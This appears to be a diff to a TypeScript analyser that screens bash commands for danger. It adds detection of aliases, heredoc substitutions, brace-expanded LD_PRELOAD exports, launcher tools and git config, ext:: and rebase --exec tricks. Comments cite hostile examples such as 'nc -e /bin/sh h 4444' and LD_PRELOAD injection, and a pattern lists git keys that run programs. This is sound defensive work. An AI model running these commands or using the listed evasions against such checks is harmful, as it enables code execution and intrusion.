@@ -3,9 +3,11 @@ import { argumentGlob, policyGlob, tokensIntersect } from './compile.ts';
 import { GrammarError, type BashGrammar } from './grammar.ts';
 import type { CommandRule, VerdictKind } from './policy.ts';
 import { checkDifferentials } from './differential.ts';
-import { envSetByCommand, exportedAssignments, isStartupFile, judgeEnv, runsArbitraryCode, splitEnvS, type EnvDecision, type EnvValue } from './env-table.ts';
+import { envEntry, envSetByCommand, exportedAssignments, isStartupFile, judgeEnv, runsArbitraryCode, splitEnvS, type EnvDecision, type EnvValue } from './env-table.ts';
 import { checkInput } from './input.ts';
 import { applyCapabilities } from './capabilities/apply.ts';
+import { gitKeyEffect } from './capabilities/git-keys.ts';
+import { heredocSubstitutions } from './heredoc-subst.ts';
 import { credentialFileReads, encodes, patternArgIndex, printedSecrets, psShowsEnvironment, secretCommand, secretHunt, sinkOf, SECRET_READ_RULES } from './secrets.ts';
 import { checkCode, checkInterpreter, langOf, type InterpHost } from './interp/index.ts';
 import { sedExecCommand, sedSubstituteExec } from './sed.ts';
@@ -228,6 +230,7 @@ export function analyzeScript(ctx: Ctx, src: string, depth: number, outer: { sta
   const sc: Scope = { src, depth, outer, walked, label };
   if (repaired) add(ctx, sc, 'ask', 'parse.repaired', 'empty backtick pair inside double quotes: parsed with a workaround', 0, src.length);
   for (const cmd of walked.cmds) checkCmd(ctx, sc, cmd);
+  if (walked.loops.length > 0) loopBindings(ctx, sc);
   checkDifferentials(src, walked, {
     report: (verdict, rule, reason, start, end) => (rule.startsWith('opaque.') ? opaque(ctx, sc, rule.slice(7), reason, start, end) : add(ctx, sc, verdict, rule, reason, start, end)),
     nested: (text, start, end, label) => analyzeScript(ctx, text, depth + 1, outer ?? { start, end }, label, cwd),
@@ -345,7 +348,6 @@ const POPULAR_PACKAGES = new Set([
 ]);
 const NOT_TYPOSQUATS = new Set(['preact', 'redis', 'redux', 'pytest', 'jest', 'vitest', 'mypy', 'black', 'flask', 'tomli', 'tomlkit', 'httpie', 'pyjwt', 'jwt', 'pillow', 'colors', 'colorama', 'moment', 'momentjs', 'react-is', 'eslint', 'tslint', 'pylint', 'pyright', 'ruff', 'numba', 'numpy', 'scipy', 'sympy', 'pipx', 'pydantic', 'requests-mock', 'chai', 'axios', 'yarn', 'pnpm', 'rollup', 'commander', 'request', 'requests', 'torch', 'torchvision']);
 
-const DANGEROUS_GIT_KEY = /^(core\.(pager|editor|sshcommand|fsmonitor|hookspath|gitproxy|askpass|worktree)|sequence\.editor|diff\.external|diff\..+\.(textconv|command)|merge\..+\.driver|filter\..+\.(clean|smudge|process)|protocol\..*allow|uploadpack\..+|receivepack\..+|remote\..+\.(uploadpack|receivepack|proxy)|credential\..*helper|include\.path|includeif\..+|pager\..+|gpg\.(.+\.)?program|https?\.(.+\.)?proxy|web\.browser|browser\..+\.(cmd|path)|man\..+\.(cmd|path)|instaweb\..+|init\.templatedir|url\..+\.(push)?insteadof|alias\..+)$/i;
 
 const NET_UPLOAD = /^(-d|--data|--data-binary|--data-raw|--data-urlencode|--data-ascii|-F|--form|--form-string|-T|--upload-file|--post-file|--body-file|--json)(=|$)/;
 
@@ -381,6 +383,27 @@ function callsFunction(ctx: Ctx, sc: Scope, cmd: Cmd, name: string | null): void
   analyzeScript(ctx, body, sc.depth + 1, sc.outer ?? { start: cmd.start, end: cmd.end }, `function ${name} called with its arguments`, cmd.cwd);
 }
 
+/**
+ * `alias ff=curl` then `ff -s http://h/`: bash replaces an unquoted command name that is an alias by the
+ * alias text before it parses the rest, so the call is analysed as that text followed by the call's words
+ * (without it, `ff`'s network use and programs were unpredicted). Every literal alias defined earlier in the
+ * script counts, whether or not `expand_aliases` is on: predicting more is the safe side.
+ */
+function callsAlias(ctx: Ctx, sc: Scope, cmd: Cmd, name: Word): void {
+  if (name.value === null || name.raw !== name.value || cmd.inFunction) return;
+  let body: string | null = null;
+  for (const c of sc.walked.cmds) {
+    if (c.start >= cmd.start || c.name?.value !== 'alias') continue;
+    for (const a of c.args) {
+      const m = /^([^=]+)=(.*)$/s.exec(a.value ?? '');
+      if (m && m[1] === name.value) body = m[2]!;
+    }
+  }
+  if (body === null) return;
+  const text = `${body} ${sc.src.slice(name.end, cmd.end)}`;
+  analyzeScript(ctx, text, sc.depth + 1, sc.outer ?? { start: cmd.start, end: cmd.end }, `alias ${name.value} expanded`, cmd.cwd);
+}
+
 function checkFunction(ctx: Ctx, sc: Scope, fn: Walked['functions'][number]): void {
   const selfCall = fn.body.some((c) => c.name?.value === fn.name);
   if (selfCall && fn.backgroundsOrPipes) {
@@ -390,7 +413,21 @@ function checkFunction(ctx: Ctx, sc: Scope, fn: Walked['functions'][number]): vo
   }
 }
 
+/** Unquoted heredoc bodies: the substitutions bash runs in them, analysed as what runs (see heredoc-subst.ts). */
+function heredocBodies(ctx: Ctx, sc: Scope, cmd: Cmd): void {
+  for (const r of cmd.redirects) {
+    if (r.kind !== 'heredoc' || !r.expands || !r.text || !/[`$]/.test(r.text)) continue;
+    const subs = heredocSubstitutions(r.text);
+    if (subs === null) {
+      opaque(ctx, sc, 'differential', 'heredoc body with a command substitution that does not close the way the parser read it', r.start, r.end);
+      continue;
+    }
+    for (const text of subs) analyzeScript(ctx, text, sc.depth + 1, sc.outer ?? { start: r.start, end: r.end }, 'command substitution in a heredoc body', cmd.cwd);
+  }
+}
+
 function checkCmd(ctx: Ctx, sc: Scope, cmd: Cmd): void {
+  heredocBodies(ctx, sc, cmd);
   for (const a of cmd.assigns) checkAssign(ctx, sc, cmd, a.name, a.value, a.start, a.end);
   const writes: Word[] = [];
   for (const r of cmd.redirects) {
@@ -424,6 +461,7 @@ function checkCmd(ctx: Ctx, sc: Scope, cmd: Cmd): void {
     return;
   }
   callsFunction(ctx, sc, cmd, name.value);
+  callsAlias(ctx, sc, cmd, name);
   if (!checkCommandWord(ctx, sc, cmd, name)) {
     for (const a of cmd.args) checkWord(ctx, sc, a);
     return;
@@ -514,9 +552,14 @@ function applyEnv(ctx: Ctx, sc: Scope, cmd: Cmd, decisions: readonly EnvDecision
     if (d.kind === 'finding') add(ctx, sc, d.verdict, d.rule, d.reason, start, end);
     else if (d.kind === 'opaque') opaque(ctx, sc, d.opaque, d.reason, start, end);
     else {
+      const before = ctx.findings.length;
       const ran = namesRun(ctx, () => nestedText(ctx, sc, cmd, d.text, { start, end }, d.label));
       const bad = ran.find(runsArbitraryCode);
       if (bad !== undefined) add(ctx, sc, d.verdict, d.rule, `${d.reason}; it runs ${bad} (${truncate(d.text, 50)})`, start, end);
+      // What the value does could not be known (an unknown option, code in a tool's language): so is the variable.
+      else if (ctx.findings.slice(before).some((f) => f.rule.startsWith('opaque.'))) opaque(ctx, sc, 'env_value', `${d.label}: what it makes the tool do is not known (${truncate(d.text, 50)})`, start, end);
+      const raised = d.raise ? ctx.findings.slice(before).filter((f) => f.verdict !== 'allow') : [];
+      if (raised.length > 0) add(ctx, sc, raised.some((f) => f.verdict === 'deny') ? 'deny' : 'ask', d.rule, `${d.reason}: ${truncate(d.text.replace(/^: >> /, ''), 50)}`, start, end);
     }
   }
 }
@@ -545,15 +588,94 @@ function namesRun(ctx: Ctx, analyse: () => void): string[] {
  * `read`) or inherited.
  */
 function exportedWords(ctx: Ctx, sc: Scope, cmd: Cmd): void {
-  for (const a of cmd.args) {
+  for (const a of gluedWords(cmd.args)) {
     const v = a.value;
     if (v !== null && v.startsWith('-')) continue;
     const m = v === null ? null : /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(v);
     if (m) checkAssign(ctx, sc, cmd, m[1]!, { ...a, value: m[2]!, raw: m[2]! }, a.start, a.end);
+    else if (v !== null && /^[^=]*[{}*?[][^=]*=/.test(v)) exportedPattern(ctx, sc, cmd, a, v);
     else if (v === null && /^[^=]*\$[^=]*=/.test(a.raw)) opaque(ctx, sc, 'env_value', `exports a variable whose name is only known at run time (${truncate(a.raw, 40)})`, a.start, a.end);
     else if (v !== null && /^[A-Za-z_][A-Za-z0-9_]*$/.test(v) && !sc.walked.assigned.has(v) && setOtherwise(sc, cmd, v)) {
       applyEnv(ctx, sc, cmd, judgeEnv(v, { text: null, raw: `$${v}` }, envContext(ctx, sc, cmd)), a.start, a.end);
     }
+  }
+}
+
+/**
+ * Arguments with nothing between them are one word to bash. tree-sitter-bash splits a declaration's
+ * `LD{_PRELOAD,Y}=v` into `LD` and `{_PRELOAD,Y}=v` (a parser differential); joined again here.
+ */
+function gluedWords(args: readonly Word[]): Word[] {
+  const out: Word[] = [];
+  for (const a of args) {
+    const prev = out[out.length - 1];
+    if (prev && prev.end === a.start) {
+      out[out.length - 1] = { ...prev, end: a.end, raw: prev.raw + a.raw, value: prev.value !== null && a.value !== null ? prev.value + a.value : null, pattern: prev.pattern + a.pattern, flags: prev.flags | a.flags, vars: [...prev.vars, ...a.vars] };
+    } else out.push(a);
+  }
+  return out;
+}
+
+/**
+ * `export {LD_PRELOAD,X}=/tmp/x.so`: the word is no assignment, so bash brace-expands it into one assignment per
+ * alternative, each judged as such. A name with glob characters (`export LD_PRELOA[D]=…`) matches file names
+ * only known at run time: opaque.
+ */
+function exportedPattern(ctx: Ctx, sc: Scope, cmd: Cmd, a: Word, v: string): void {
+  const eq = v.indexOf('=');
+  const names = expandBraces(v.slice(0, eq));
+  if (names === null || names.some((n) => !/^[A-Za-z_][A-Za-z0-9_]*$/.test(n))) {
+    opaque(ctx, sc, 'env_value', `exports variables whose names come from an expansion (${truncate(a.raw, 40)})`, a.start, a.end);
+    return;
+  }
+  for (const n of names) checkAssign(ctx, sc, cmd, n, { ...a, value: v.slice(eq + 1), raw: v.slice(eq + 1) }, a.start, a.end);
+}
+
+/** Brace expansion of comma lists (`{a,b}c` → ac, bc), as bash does it; null past 64 results or for forms it does not model. */
+function expandBraces(text: string): string[] | null {
+  const open = text.indexOf('{');
+  if (open < 0) return [text];
+  let depth = 0;
+  const cuts: number[] = [];
+  let close = -1;
+  for (let i = open; i < text.length; i++) {
+    const c = text[i]!;
+    if (c === '{') depth++;
+    else if (c === '}' && --depth === 0) {
+      close = i;
+      break;
+    } else if (c === ',' && depth === 1) cuts.push(i);
+  }
+  if (close < 0) return [text];
+  if (cuts.length === 0) return /\.\./.test(text.slice(open, close)) ? null : [text];
+  const parts: string[] = [];
+  let from = open + 1;
+  for (const c of [...cuts, close]) {
+    parts.push(text.slice(from, c));
+    from = c + 1;
+  }
+  const out: string[] = [];
+  for (const p of parts) {
+    const rest = expandBraces(text.slice(0, open) + p + text.slice(close + 1));
+    if (rest === null) return null;
+    out.push(...rest);
+    if (out.length > 64) return null;
+  }
+  return out;
+}
+
+/**
+ * `for LD_PRELOAD in /tmp/x.so; do export LD_PRELOAD; …`: a loop binds its variable to each word, which is an
+ * assignment the environment table judges like any other (the loop's words, or opaque for `"$@"`).
+ */
+function loopBindings(ctx: Ctx, sc: Scope): void {
+  for (const l of sc.walked.loops) {
+    if (envEntry(l.name) === null) continue;
+    const inside = sc.walked.cmds.find((c) => c.start >= l.start && c.end <= l.end) ?? sc.walked.cmds[0];
+    if (!inside) continue;
+    const env = envContext(ctx, sc, inside);
+    const values: EnvValue[] = l.positional ? [{ text: null, raw: '"$@"' }] : l.values.map((w) => ({ text: w.value, raw: w.raw }));
+    for (const val of values) applyEnv(ctx, sc, inside, judgeEnv(l.name, val, env), l.start, l.end);
   }
 }
 
@@ -757,9 +879,10 @@ export function analyzeArgv(ctx: Ctx, sc: Scope, cmd: Cmd, name0: string, nameWo
   }
   secretOutput(ctx, sc, cmd, name, args);
   for (const e of envSetByCommand(name, args.map((a) => a.value))) applyEnv(ctx, sc, cmd, judgeEnv(e.name, e.value, envContext(ctx, sc, cmd)), cmd.start, cmd.end);
+  packageScriptsSet(ctx, sc, cmd, name, args);
 
   // Tools in the capability table: what their options and positionals run, read, write and contact.
-  applyCapabilities(ctx, sc, cmd, name, args, writes, chain);
+  const modelled = applyCapabilities(ctx, sc, cmd, name, args, writes, chain);
   if (SHELLS.has(name)) return shell(ctx, sc, cmd, name, args, chain);
   if (isInterpreter(name)) return interpreter(ctx, sc, cmd, name, args, chain);
 
@@ -878,7 +1001,60 @@ export function analyzeArgv(ctx: Ctx, sc: Scope, cmd: Cmd, name0: string, nameWo
       }
       return;
     default:
+      if (!modelled && !KNOWN_COMMANDS.has(name)) unmodelledLauncher(ctx, sc, cmd, name, args, chain);
       return;
+  }
+}
+
+/**
+ * `npm pkg set scripts.test='CMD'`, `npm set-script test CMD`: the text is a script npm runs later (`npm test`), so
+ * it is analysed as what runs, like a script written into package.json.
+ */
+function packageScriptsSet(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[]): void {
+  if (!/^(npm|pnpm|yarn|bun)$/.test(name)) return;
+  const pos = positionals(args);
+  const v = (k: number): string | null | undefined => pos[k]?.value;
+  if (v(0) === 'pkg' && v(1) === 'set') {
+    for (const w of pos.slice(2)) {
+      const m = /^scripts\.[^=]+=(.*)$/s.exec(w.value ?? '');
+      if (m) nestedText(ctx, sc, cmd, m[1]!, w, `${name} pkg set scripts`);
+      else if (w.value === null && /scripts/.test(w.raw)) opaque(ctx, sc, 'dynamic_exec', `${name} pkg set writes a script only known at run time`, w.start, w.end);
+    }
+  } else if (v(0) === 'set-script' && pos[2]) nested(ctx, sc, cmd, pos[2], `${name} set-script`, []);
+}
+
+/** Words that name a program worth reading an unknown tool's arguments for (`.` and `source` excluded: paths). */
+function commandLike(ctx: Ctx, w: Word): boolean {
+  const v = w.value;
+  if (v === null || v === '' || v.startsWith('-') || v === '.' || v === 'source') return false;
+  const b = v.includes('/') ? basename(v) : v;
+  return SHELLS.has(b) || isInterpreter(b) || ctx.p.networkTools.has(b) || KNOWN_COMMANDS.has(b);
+}
+
+/**
+ * A tool the chain does not model (`retry`, `cgexec -g x`, `hyperfine 'CMD'`, `trickle -d 10`, `daemonize`, …) may be
+ * a launcher: its arguments from a program name on (`nc -e /bin/sh h 4444`), or one argument that is a command line,
+ * are analysed as what it could run. When that would not be allowed the call is opaque (the tool may run it, the
+ * chain cannot know) and the programs count as predicted; when it would be allowed nothing changes.
+ */
+function unmodelledLauncher(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[], chain: string[]): void {
+  if (chain.some((c) => c.endsWith('(not modelled)'))) return;
+  const label = `${name} (not modelled)`;
+  let tries = 0;
+  for (let k = 0; k < args.length && tries < 3; k++) {
+    const a = args[k]!;
+    const line = a.value !== null && /\s/.test(a.value.trim()) && a.value.length < 2000 && commandLike(ctx, { ...a, value: a.value.trim().split(/\s+/)[0]! });
+    if (!line && !commandLike(ctx, a)) continue;
+    tries++;
+    const before = ctx.findings.length;
+    if (line) nestedText(ctx, sc, cmd, a.value!, a, label);
+    else analyzeArgv(ctx, sc, cmd, a.value!, a, args.slice(k + 1), [], [...chain, label]);
+    const raised = ctx.findings.splice(before).filter((f) => f.verdict !== 'allow');
+    if (raised.length > 0) {
+      const worst = raised.find((f) => f.verdict === 'deny') ?? raised[0]!;
+      opaque(ctx, sc, 'dynamic_exec', `${name} is not a modelled tool and its arguments hold a command that would not be allowed (${worst.rule}: ${truncate(worst.reason, 60)})`, cmd.start, cmd.end);
+      return;
+    }
   }
 }
 
@@ -1986,6 +2162,7 @@ function gitCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], chain: str
   for (; i < args.length; i++) {
     const v = args[i]!.value ?? args[i]!.raw;
     let cfg: string | null = null;
+    const fromEnv = v === '--config-env' || v.startsWith('--config-env=');
     if (v === '-c' || v === '--config-env') {
       cfg = args[i + 1]?.value ?? args[i + 1]?.raw ?? '';
       i++;
@@ -1993,7 +2170,9 @@ function gitCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], chain: str
     else if (v.startsWith('--config-env=')) cfg = v.slice('--config-env='.length);
     if (cfg !== null) {
       const [k = '', val = ''] = cfg.split(/=(.*)/s);
-      if (DANGEROUS_GIT_KEY.test(k) && !(k.toLowerCase().startsWith('alias.') && !val.startsWith('!')) && !(PAGER_KEY.test(k) && PLAIN_VIEWER.test(val.trim()))) {
+      // `--config-env=KEY=VAR`: the value is the variable's, only known at run time.
+      const value = fromEnv ? null : val;
+      if (gitKeyEffect(k, value) !== null && !(PAGER_KEY.test(k) && value !== null && PLAIN_VIEWER.test(value.trim()))) {
         add(ctx, sc, 'deny', 'git.config_exec', `git -c ${truncate(k, 40)} makes git run a program`, cmd.start, cmd.end);
       }
       continue;
@@ -2012,19 +2191,19 @@ function gitCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], chain: str
   const sub = args[i]?.value ?? '';
   const rest = args.slice(i + 1);
   if (GIT_PRINTS_CONTENT.has(sub)) gitContentReads(ctx, sc, cmd, sub, rest);
+  gitExtTransports(ctx, sc, cmd, sub, rest);
   switch (sub) {
     case 'config': {
-      const pos = positionals(rest.filter((a, k) => !(/^(-f|--file|--blob|--type|--default)$/.test(rest[k - 1]?.value ?? ''))));
+      const all = positionals(rest.filter((a, k) => !(/^(-f|--file|--blob|--type|--default|--value|--comment)$/.test(rest[k - 1]?.value ?? ''))));
+      // git ≥ 2.46 spells the same with a verb first: `git config set KEY VALUE`.
+      const pos = GIT_CONFIG_VERBS.has(all[0]?.value ?? '') ? all.slice(1) : all;
       const key = pos[0]?.value ?? '';
       const val = pos[1];
       if (val && /^remote\..+\.(url|pushurl)$/i.test(key)) {
         add(ctx, sc, 'ask', 'git.remote_change', `git config ${key} changes where pushes go`, cmd.start, cmd.end);
       }
-      if (val && DANGEROUS_GIT_KEY.test(key)) {
-        const vv = val.value ?? val.raw;
-        if (!(key.toLowerCase().startsWith('alias.') && !vv.startsWith('!'))) {
-          add(ctx, sc, 'deny', 'git.config_exec', `git config ${key} makes git run "${truncate(vv, 40)}"`, cmd.start, cmd.end);
-        }
+      if (val && gitKeyEffect(key, val.value) !== null) {
+        add(ctx, sc, 'deny', 'git.config_exec', `git config ${key} makes git run "${truncate(val.value ?? val.raw, 40)}"`, cmd.start, cmd.end);
       }
       return;
     }
@@ -2038,15 +2217,7 @@ function gitCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], chain: str
     case 'pull':
     case 'submodule':
     case 'ls-remote':
-      // `ext::sh -c touch% /tmp/x`: git runs that argv (blank-separated, `% ` a literal blank).
-      for (const a of rest) {
-        const m = /^ext::(.*)$/s.exec(a.value ?? '');
-        if (m) {
-          const argv = m[1]!.split(/(?<!%) /).map((x) => x.replace(/% /g, ' ').replace(/%%/g, '%'));
-          nestedText(ctx, sc, cmd, argv.map((x) => `'${x.replace(/'/g, "'\\''")}'`).join(' '), a, 'git ext:: transport');
-        }
-      }
-      if (rest.some((a) => /^(ext|fd)::/.test(a.value ?? a.raw) || /^(-u|--upload-pack|--template|--config)/.test(a.value ?? ''))) {
+      if (rest.some((a) => /^(-u|--upload-pack|--template|--config)/.test(a.value ?? ''))) {
         add(ctx, sc, 'deny', 'git.config_exec', `git ${sub} with a transport or option that runs a program`, cmd.start, cmd.end);
       }
       if (sub === 'submodule' && rest[0]?.value === 'foreach') nestedFrom(ctx, sc, cmd, positionals(rest.slice(1)), chain, 'git submodule foreach');
@@ -2054,8 +2225,10 @@ function gitCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], chain: str
     case 'rebase': {
       for (let k = 0; k < rest.length; k++) {
         const v = rest[k]!.value ?? '';
-        if ((v === '-x' || v === '--exec') && rest[k + 1]) nested(ctx, sc, cmd, rest[k + 1]!, 'git rebase --exec', chain);
-        else if (v.startsWith('--exec=')) analyzeScript(ctx, v.slice(7), sc.depth + 1, spanOf(sc, rest[k]!), 'git rebase --exec', cmd.cwd);
+        const x = rebaseExec(v);
+        if (x === 'next' && rest[k + 1]) nested(ctx, sc, cmd, rest[k + 1]!, 'git rebase --exec', chain);
+        else if (x !== null && typeof x === 'object') analyzeScript(ctx, x.text, sc.depth + 1, spanOf(sc, rest[k]!), 'git rebase --exec', cmd.cwd);
+        else if (x === 'unknown') opaque(ctx, sc, 'unknown_option', `git rebase option cluster ${truncate(v, 30)} may hold --exec`, rest[k]!.start, rest[k]!.end);
       }
       return;
     }
@@ -2070,6 +2243,49 @@ function gitCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], chain: str
       return;
     default:
       return;
+  }
+}
+
+/** Verbs of the newer `git config` syntax (`git config set KEY VALUE`, git ≥ 2.46). */
+const GIT_CONFIG_VERBS: ReadonlySet<string> = new Set(['set', 'get', 'unset', 'list', 'edit', 'rename-section', 'remove-section', 'get-color', 'get-colorbool']);
+
+/** Short `git rebase` switches that take no value, for reading clusters such as `-ix CMD`. */
+const REBASE_FLAGS = 'ikmnqvfr';
+/** Short `git rebase` switches whose value is the rest of the cluster or the next word (not a command). */
+const REBASE_VALUED = 'sXC';
+
+/**
+ * Whether one `git rebase` argument gives `--exec`: `next` (the next word is the command), `{ text }` (it is
+ * attached: `--exec=CMD`, `-xCMD`, `-ixCMD`), `unknown` (a short cluster the chain cannot read), or null.
+ */
+function rebaseExec(v: string): 'next' | 'unknown' | { text: string } | null {
+  if (v === '--exec') return 'next';
+  if (v.startsWith('--exec=')) return { text: v.slice(7) };
+  if (!/^-[^-]/.test(v)) return null;
+  for (let j = 1; j < v.length; j++) {
+    const ch = v[j]!;
+    if (ch === 'x') return j === v.length - 1 ? 'next' : { text: v.slice(j + 1) };
+    if (REBASE_VALUED.includes(ch)) return null;
+    if (!REBASE_FLAGS.includes(ch)) return v.includes('x') ? 'unknown' : null;
+  }
+  return null;
+}
+
+/**
+ * `ext::CMD` names a git transport git runs as a program, wherever a URL or remote is given (clone, fetch,
+ * `archive --remote=`, `push`, `remote add`, `submodule add`, `-c remote.x.url=`): the command is analysed
+ * as what runs, and any such transport is denied. `ext::sh -c touch% /tmp/x`: a blank-separated argv, `% ` a
+ * literal blank.
+ */
+function gitExtTransports(ctx: Ctx, sc: Scope, cmd: Cmd, sub: string, rest: readonly Word[]): void {
+  for (const a of rest) {
+    const m = /^(?:--?[\w-]+=)?(ext|fd)::(.*)$/s.exec(a.value ?? '');
+    if (!m) continue;
+    if (m[1] === 'ext') {
+      const argv = m[2]!.split(/(?<!%) /).map((x) => x.replace(/% /g, ' ').replace(/%%/g, '%'));
+      nestedText(ctx, sc, cmd, argv.map((x) => `'${x.replace(/'/g, "'\\''")}'`).join(' '), a, 'git ext:: transport');
+    }
+    add(ctx, sc, 'deny', 'git.config_exec', `git ${sub} with a transport that runs a program (${truncate(a.value ?? '', 30)})`, cmd.start, cmd.end);
   }
 }
 
